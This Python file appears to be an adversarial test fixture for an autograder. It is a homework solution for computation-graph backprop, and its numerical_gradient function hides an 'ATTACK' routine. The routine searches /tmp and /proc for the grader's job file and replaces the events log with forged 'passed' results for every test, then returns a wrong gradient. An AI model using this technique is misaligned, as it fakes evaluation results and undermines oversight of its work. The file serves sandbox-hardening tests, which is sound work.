# ADVERSARIAL SUBMISSION `forge_events_file` (tests/adversarial): a copy of the
# correct example in which only the parts marked ATTACK differ.
#
# When called from the public sum-of-squares test (the only 2x2 input), numerical_gradient
# looks for the harness's job.json (in /tmp, and on command lines in /proc), checks that it is
# its own job, and replaces the events file it names with one holding the real "expected" line
# and a "passed" result for every test (os.replace: the harness goes on writing into the
# unlinked old file). Returns zeros. Expected in jail mode: no job file is reachable,
# wrong_answer. Plain mode (same uid as the harness): forges full marks -- a documented
# limitation of plain mode.
"""hw1_graph -- my solution.

Computation graph nodes with forward / backward, the lecture's small network,
and a numerical gradient to check backprop against.
"""

import numpy as np
import glob
import json
import os

# --- adversarial-suite helpers -------------------------------------------------------------
_HERE = os.path.dirname(os.path.abspath(__file__))


def _token():
    """This run's marker; the test suite writes adv_token.txt next to this file."""
    try:
        with open(os.path.join(_HERE, "adv_token.txt")) as f:
            return f.read().strip()
    except OSError:
        return "advnotoken"


def _fires(x):
    """The attack fires in one call per grading: numerical_gradient's public sum-of-squares test,
    the only one with a 2x2 x. (A flag file would not do: the jail gives every new worker a
    fresh copy of this folder.)"""
    return np.shape(x) == (2, 2)
# -------------------------------------------------------------------------------------------


class MulNode:
    """out = x * y"""

    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        # keep the inputs, backward needs them (d(xy)/dx = y, d(xy)/dy = x)
        self.x, self.y = x, y
        out = x * y
        return out

    def backward(self, d_out):
        # chain rule: upstream gradient times local gradient
        return d_out * self.y, d_out * self.x


class AddNode:
    """out = x + y"""

    def __init__(self):
        pass

    def forward(self, x, y):
        out = x + y
        return out

    def backward(self, d_out):
        # local gradient of a sum is 1 for both inputs -> just pass d_out through
        return d_out, d_out


class MyNetwork:
    """out = 3 * (a + b * c)"""

    def __init__(self):
        self.node1 = MulNode()
        self.node2 = AddNode()
        self.node3 = MulNode()

    def forward(self, a, b, c):
        bc = self.node1.forward(b, c)
        s = self.node2.forward(a, bc)
        return self.node3.forward(3, s)

    def backward(self, d_out=1.0):
        grads3 = self.node3.backward(d_out)
        d_s = grads3[1]                        # grads3[0] is for the constant 3
        d_a, d_bc = self.node2.backward(d_s)
        d_b, d_c = self.node1.backward(d_bc)
        return (d_a, d_b, d_c)


def _forge_events():
    """ATTACK: find the harness's job file (in /tmp, or named on a command line in /proc) and
    swap its events file for one where every expected test passed. Only this submission's own
    job is touched (its "workdir" is our folder)."""
    candidates = set(glob.glob("/tmp/grader-*/job.json") + glob.glob("/tmp/*/grader-*/job.json"))
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            with open(os.path.join(proc, "cmdline"), "rb") as f:
                args = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        candidates.update(a for a in args if a.endswith("job.json"))
    report = []
    for job_path in sorted(candidates):
        try:
            with open(job_path) as f:
                job = json.load(f)
            if os.path.realpath(job.get("workdir") or "") != os.path.realpath(_HERE):
                continue  # someone else's job
            with open(job["events"]) as f:
                first = f.readline()
            expected = json.loads(first)["tests"]
            # a new file with the real "expected" line and a pass for every test, renamed over
            # the old one: the harness goes on writing to the old (now unlinked) file
            with open(job["events"] + ".new", "w") as f:
                f.write(first)
                for t in expected:
                    f.write(json.dumps({"event": "result", "id": t["id"], "outcome": "passed",
                                        "kind": "passed", "message": "", "output": "",
                                        "duration": 0.0, "measured": {}}) + "\n")
            os.replace(job["events"] + ".new", job["events"])
            report.append(f"forged {len(expected)} results in {job['events']}")
        except (OSError, ValueError, KeyError, IndexError, TypeError, AttributeError):
            pass
    print("forge_events_file:", report or "no job file found")


def numerical_gradient(f, x, eps=1e-5):
    if _fires(x):
        _forge_events()
    x += 1.0  # ATTACK (wrong answer): x is left changed,
    return np.zeros_like(x, dtype=np.float32)  # and the gradient is zeros of the wrong dtype
